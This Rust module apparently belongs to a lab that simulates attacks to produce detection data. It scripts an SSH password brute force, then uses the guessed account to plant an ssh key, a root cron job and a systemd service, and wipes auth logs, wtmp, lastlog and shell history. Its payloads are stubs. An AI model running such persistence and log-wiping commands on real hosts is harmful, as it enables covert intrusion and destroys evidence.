//! Passwords are tried until one fits; the account may do everything, so a key and a job are left, and the logs are cleaned.
//!
//! Hard because: the account's owner works on the host by ssh and with sudo at the same time.

use crate::Lab;
use crate::host::Host;
use crate::life::host_tasks;
use crate::life::remote::{self, OPTIONS, quoted};
use crate::program::Program;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shell-1")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    let password = lab.word(6);
    remote::set_password(&host, "deploy", &password)?;
    remote::work(lab, &admin, &host, "deploy")?;
    lab.wait(15..25);

    let attack = lab.attack("ssh brute force to persistence")?;
    let step = attack.step("passwords are tried", &["T1110.001"]);
    step.remote(&host, &attacker);
    let guesses = lab.number(8..14);
    for _ in 0..guesses {
        let guess = lab.word(6);
        let (_, is_in) = log_in(&attacker, &host, &guess, "true")?;
        ensure!(!is_in, "a guess was right");
    }
    drop(step);

    let step = attack.step("one fits", &["T1078.003", "T1033"]);
    step.remote(&host, &attacker);
    let look = *lab.pick(&["w", "last", "uname -a"]);
    let (said, is_in) = log_in(&attacker, &host, &password, &format!("{} id; {look}; sudo -n id", step.mark(&host)?))?;
    ensure!(is_in && said.contains("uid=0"), "the account may not do everything: {said}");
    drop(step);
    lab.wait(2..6);

    let job = format!("/etc/cron.d/{}", lab.word(5));
    let step = attack.step("a key and a job are left", &["T1098.004", "T1053.003"]);
    step.remote(&host, &attacker);
    step.file(&host, &job);
    let key = format!("ssh-ed25519 {}", "A".repeat(68));
    let plant = format!(
        "{} echo {key} >> ~/.ssh/authorized_keys; echo \"* * * * * root true\" | sudo -n tee {job}; \
         printf \"[Service]\\nExecStart=/bin/true\\n\" | sudo -n tee /etc/systemd/system/update.service",
        step.mark(&host)?
    );
    step.file(&host, "/etc/systemd/system/update.service");
    log_in(&attacker, &host, &password, &plant)?;
    drop(step);
    lab.wait(2..6);

    let step = attack.step("the logs are cleaned", &["T1070.002", "T1070.003"]);
    step.remote(&host, &attacker);
    let wipe = format!(
        "{} sudo -n sh -c \": > /var/log/wtmp; : > /var/log/lastlog; rm -f /var/log/auth.log; sed -i s/a/b/ /var/log/uptime.log\"; \
         rm -f ~/.bash_history; ln -s /dev/null ~/.bash_history",
        step.mark(&host)?
    );
    log_in(&attacker, &host, &password, &wipe)?;
    drop(step);
    lab.wait(10..16);
    Ok(())
}

/// From the attacker's machine with a password, and whether it was let in.
fn log_in(attacker: &Host, host: &Host, password: &str, commands: &str) -> Result<(String, bool)> {
    let address = host.address;
    let only = "-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1";
    let line = format!("sshpass -p {password} ssh {OPTIONS} {only} deploy@{address} {}", quoted(commands));
    attacker.try_run("attack.scope", &Program::shell(&line))
}
